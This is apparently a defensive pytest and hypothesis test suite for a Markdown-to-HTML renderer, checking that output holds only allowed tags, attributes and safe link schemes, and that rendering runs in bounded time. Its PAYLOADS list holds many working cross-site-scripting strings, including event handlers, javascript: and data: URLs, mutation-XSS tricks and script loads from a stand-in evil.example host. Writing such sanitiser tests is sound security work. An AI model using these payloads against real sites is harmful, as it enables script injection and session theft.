"""What people write becomes HTML that can do nothing, however it is meant, and in bounded time.

What came out is read by the standard library's parser, which knows nothing of those that made it.
"""

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from handlers.markdown import render

UPLOAD = "a" * 24
PLAIN = ("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "li")
MAY: dict[str, set[str]] = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    **{tag: set() for tag in (*PLAIN, "h1", "h2", "h3", "h4", "h5", "h6")},
}
VOID = {"br", "hr", "img"}


class Read(HTMLParser):
    """The elements of a page, with their attributes as a browser would understand them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        assert len({name for name, _ in attrs}) == len(attrs)
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open and self.open.pop() == tag, "it closes what it has not opened"

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def require_harmless(text: str) -> Read:
    """Fail if a browser could do anything with it but show it, and follow a link that somebody clicks."""
    html = render(text).html
    read = Read(html)
    assert not read.others, html
    assert not read.open, html
    for tag, attributes in read.elements:
        assert tag in MAY, html
        assert attributes.keys() <= MAY[tag], html
        for name, value in attributes.items():
            assert value is not None
            if name in {"href", "src"}:
                require_good_address(tag, value)
            if name == "start":
                assert value.isdecimal()
        if tag == "a" and "href" in attributes:
            assert attributes["rel"] == "nofollow ugc noopener", html
    return read


def require_good_address(tag: str, address: str) -> None:
    """What leads to the web or to a mailbox, or to a file of ours; a picture only the last."""
    # As browsers do before they read it.
    plain = "".join(character for character in address if ord(character) > 32)
    ours = plain.startswith("/api/v1/uploads/") and not plain.startswith("//") and ".." not in plain
    if tag == "img":
        assert ours, address
    else:
        assert ours or urlsplit(plain).scheme in {"http", "https", "mailto"}, address


PAYLOADS = [
    # Elements.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'javascript:alert(1)'</style>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='http://x' onclick=alert(1)>x</a>",
    "<div style='background:url(javascript:alert(1))'>",
    "<p id=x class=y style=z>",
    # Mutation.
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    # Addresses, in Markdown.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<java\nscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:http://x/y)",
    "[x](filesystem:http://x/y)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/api/v1/auth/logout)",
    "[x](/api/v1/uploads/../auth/logout)",
    f"[x](/api/v1/uploads/{UPLOAD}/../../auth/logout)",
    "[x](#top)",
    "[x](?a=b)",
    '[x](http://y "title\\" onclick=\\"alert(1)")',
    "[x](http://y 'a\" onmouseover=alert(1) b=\"')",
    '[x](http://y" onclick="alert(1))',
    "[x](http://y'onclick='alert(1))",
    '[x](<http://y" onclick=alert(1) ">)',
    "[x](http://y&quot; onclick=alert(1))",
    "[x](http://a%22onclick=%22alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'x'",
    "[y]\n\n[y]: data:text/html,<script>alert(1)</script>",
    "[<img src=x onerror=alert(1)>](http://y)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    '[![x](http://a" onerror=alert(1))](http://b)',
    "[a [b](javascript:alert(1)) c](http://d)",
    # Pictures.
    "![x](javascript:alert(1))",
    "![x](http://evil.example/counts-who-reads.png)",
    "![x](//evil.example/x.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](upload:' + UPLOAD + ")",
    "![x](upload:" + UPLOAD + ' "t\\" onerror=\\"alert(1)")',
    "![x](upload:" + UPLOAD + "/../../auth/logout)",
    "![x](upload:javascript:alert(1))",
    "![<script>alert(1)</script>](upload:" + UPLOAD + ")",
    "![](/api/v1/uploads/" + UPLOAD + "/?size=original&x=<script>)",
    # Automatic links.
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    '<http://y"onclick=alert(1)>',
    "<http://y'><img src=x onerror=alert(1)>",
    "<x@y.example?subject=<script>alert(1)</script>>",
    'http://y"onmouseover=alert(1)',
    "http://y'onmouseover='alert(1)",
    "http://y<script>alert(1)</script>",
    "http://javascript:alert(1)",
    "javascript://y%0aalert(1)",
    "http://y/`<img src=x onerror=alert(1)>`",
    "http://y&lt;script&gt;",
    "https://y](javascript:alert(1))",
    # Code and entities.
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '```js" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "# <img src=x onerror=alert(1)>",
    "> <svg onload=alert(1)>",
    "- <svg onload=alert(1)>\n  - <script>alert(1)</script>",
    "1\u202e<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<script\u2028>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "[x](\u200bjavascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](java\u00adscript:alert(1))",
    "[x](http://\u0440aypal.example)",
    "*<b>*</b>*",
    "<p>**</p>**",
    "<!-- [x](javascript:alert(1)) -->",
    "|a|<img src=x onerror=alert(1)>|\n|-|-|\n|x|[x](javascript:alert(1))|",
    "~~<s onclick=alert(1)>~~",
    "99999999999999999999. x",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</p></div></body></html><script>alert(1)</script>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
]


PLACES = (
    *("{}", "> - {}", "**{}**", "a\n{}\nb", "[{}](http://x)", "[x](http://y '{}')"),
    f"![{{}}](upload:{UPLOAD})",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_can_do_anything_comes_through(payload: str) -> None:
    for text in (
        "{}",
        "> - {}",
        "**{}**",
        "[{}](http://x)",
        "![{}](upload:" + UPLOAD + ")",
        "a\n{}\nb",
        "[x](http://y '{}')",
    ):
        require_harmless(text.replace("{}", payload))


PIECES = st.sampled_from(
    [*PAYLOADS, *"[]()<>!*_`~#&;:\\\"'/ \n\t-+.|=", "javascript:", "http://x", "upload:", UPLOAD, "onerror=", "&#x3c;",
     "<svg", "<!--", "-->", "</", "data:", "](", "![", "```\n", "&lt;", "\u0000", "\u200b", "\ufeff", "é", "😀"]
)  # fmt: skip


@settings(max_examples=300)
@given(st.one_of(st.lists(PIECES, max_size=25).map("".join), st.text(max_size=300)))
def test_whatever_is_put_together_does_nothing(text: str) -> None:
    require_harmless(text)


def test_what_people_write_is_shown() -> None:
    text = (
        "# Strings\n\nSee *this* and **that**, ~~not~~ `x < y`: https://a.example/x?a=1&b=2, or [here](http://b.example)."
        f"\n\n![A guitar](upload:{UPLOAD}) ![](/api/v1/uploads/{'b' * 24}/)\n\n1. one\n2. two\n\n> said"
        "\n\n<ada@example.org>"
    )
    rendered = render(text)

    assert rendered.uploads == (UPLOAD, "b" * 24)
    assert rendered.links == 3
    tags = [tag for tag, _ in require_harmless(text).elements]
    assert tags == [
        *("h1", "p", "em", "strong", "s", "code", "a", "a", "p", "img", "img"),
        *("ol", "li", "li", "blockquote", "p", "p", "a"),
    ]
    links = [attributes["href"] for tag, attributes in Read(rendered.html).elements if tag == "a"]
    assert links == ["https://a.example/x?a=1&b=2", "http://b.example", "mailto:ada@example.org"]
    pictures = [attributes for tag, attributes in Read(rendered.html).elements if tag == "img"]
    assert pictures[0] == {"src": f"/api/v1/uploads/{UPLOAD}/?size=preview", "alt": "A guitar"}


def test_anybody_elses_picture_is_a_link_that_is_not_fetched_by_itself() -> None:
    read = require_harmless("![a *cat*](https://evil.example/x.png)")
    assert [(tag, attributes.get("href")) for tag, attributes in read.elements] == [
        ("p", None),
        ("a", "https://evil.example/x.png"),
    ]


MOST = 8192
LIVELY = "# It is\n\n*so* **good**, `x` [y](http://z)\n\n- a\n- b\n\n"
LONG = {
    "brackets": "[" * MOST,
    "pictures": "![" * (MOST // 2),
    "links": "[a](b" * (MOST // 5),
    "open links": "[](" * (MOST // 3),
    "nested links": "[" * (MOST // 2) + "](http://a)" * (MOST // 22),
    "links with titles": '[x](http://a.b/ "' * (MOST // 17),
    "links without end": "[a](<b" * (MOST // 6),
    "emphasis": "*a **a " * (MOST // 7),
    "mixed emphasis": "_a*" * (MOST // 3),
    "stars": "*" * MOST,
    "tildes": "~~a" * (MOST // 3),
    "code": "".join("`" * number + " " for number in range(1, 127)),
    "quotes": ">" * MOST,
    "lists": "- " * (MOST // 2),
    "numbered lists": "1. " * (MOST // 3),
    "deeper lists": "".join(" " * (2 * number) + "* a\n" for number in range(80)),
    "items": "* a\n" * (MOST // 4),
    "headings": "# a\n" * (MOST // 4),
    "references": "[a]: b\n" * (MOST // 7),
    "many references": "".join(f"[{number}]: b\n[{number}]\n\n" for number in range(400)),
    "open references": "[a\n" * (MOST // 3),
    "entities": "&amp" * (MOST // 4),
    "less than": "<" * MOST,
    "automatic links": "<http://" * (MOST // 8),
    "addresses": "http://a.b " * (MOST // 11),
    "schemes": "http://" * (MOST // 7),
    "colons": "a://" * (MOST // 4),
    "tables": "|a" * 1000 + "|\n" + "|-" * 1000 + "|\n" + "|\n" * 2000,
    "comments": "<!--" * (MOST // 4),
    "breaks": "a  \n" * (MOST // 4),
}


@pytest.mark.parametrize("name", LONG)
def test_no_text_takes_much_longer_than_a_lively_one(name: str) -> None:
    """Whatever else the machine does: what takes the square of its length takes much longer than a lively text."""
    text = LONG[name][:MOST]
    assert best(text) < 10 * best(LIVELY * (MOST // len(LIVELY)))
    assert len(render(text).html) < 12 * MOST
    require_harmless(text)


def best(text: str) -> float:
    """The shortest of three times."""
    times = []
    for _ in range(3):
        start = time.process_time()
        render(text)
        times.append(time.process_time() - start)
    return min(times)
